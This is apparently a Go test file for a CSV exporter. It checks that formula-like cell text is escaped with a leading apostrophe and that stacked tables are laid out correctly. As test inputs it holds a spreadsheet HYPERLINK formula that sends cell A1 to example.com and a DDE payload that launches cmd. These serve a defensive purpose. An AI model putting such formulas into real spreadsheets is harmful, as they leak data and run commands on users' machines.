package csv

import (
	"bytes"
	reader "encoding/csv"
	"testing"

	"github.com/talimat/talimat-plan/internal/document"
)

// What somebody wrote into a scenario is text wherever a spreadsheet reads it.
func TestCSVCellsAreNoFormulas(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("http://example.com/?x="&A1,"click")`: `'=HYPERLINK("http://example.com/?x="&A1,"click")`,
		"@SUM(1+1)*cmd|' /C calc'!A0":                     "'@SUM(1+1)*cmd|' /C calc'!A0",
		"+2+3":                                            "'+2+3", "-2+3": "'-2+3", "=1": "'=1", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		" =1": "' =1", "＝1+1": "'＝1+1", "-": "'-", "+": "'+", "-Inf": "'-Inf", "+1e": "'+1e", "-1-1": "'-1-1",
		"-1": "-1", "-0.5": "-0.5", "+3": "+3", "-1.5e-07": "-1.5e-07", "1e+21": "1e+21", "12": "12", "": "",
		"a=b": "a=b", "web, api": "web, api", `say "hi"`: `say "hi"`, "a;=1": "a;=1", "two\nlines": "two\nlines", "esc\x1b[31m": "esc·[31m",
	} {
		var b bytes.Buffer
		if err := Rows(&b, [][]string{{"x", text, "y"}}); err != nil {
			t.Fatal(err)
		}
		r := reader.NewReader(bytes.NewReader(b.Bytes()))
		row, err := r.Read()
		if err != nil || len(row) != 3 || row[0] != "x" || row[2] != "y" {
			t.Fatalf("%q: %q, %v", text, b.String(), err)
		}
		if row[1] != want {
			t.Errorf("%q is read as %q, want %q", text, row[1], want)
		}
	}
}

// Several tables stand below each other: what both have is one column, each row
// says which table it is of, and half widths follow their values.
func TestTablesBelowEachOther(t *testing.T) {
	n := func(v float64) document.Cell { return document.Number(document.Form{}, v) }
	months := &document.Table{Name: "months", Columns: []document.Column{{Key: "month"}, {Path: []string{"cost", "p50"}, Interval: true}}}
	months.Add(n(0), n(5).Within(0.5))
	months.Add(n(1), document.None("never"))
	held := &document.Table{Name: "held", Single: true, Columns: []document.Column{{Key: "share"}, {Path: []string{"cost", "p50"}, Interval: true}}}
	held.Add(n(0.9), n(4))
	d := &document.Document{Blocks: []document.Block{months, held}, Records: []string{"months", "held"}}
	var b bytes.Buffer
	if err := Write(&b, d); err != nil {
		t.Fatal(err)
	}
	want := "table,month,cost.p50,cost.p50_half_width,share\nmonths,0,5,0.5,\nmonths,1,,,\nheld,,4,,0.9\n"
	if b.String() != want {
		t.Errorf("%q, want %q", b.String(), want)
	}
	d.Records = d.Records[:1]
	b.Reset()
	if err := Write(&b, d); err != nil || b.String() != "month,cost.p50,cost.p50_half_width\n0,5,0.5\n1,,\n" {
		t.Errorf("%q, %v", b.String(), err)
	}
	d.Records = []string{"lost"}
	if Write(&b, d) == nil {
		t.Error("a table that is not there is written")
	}
}
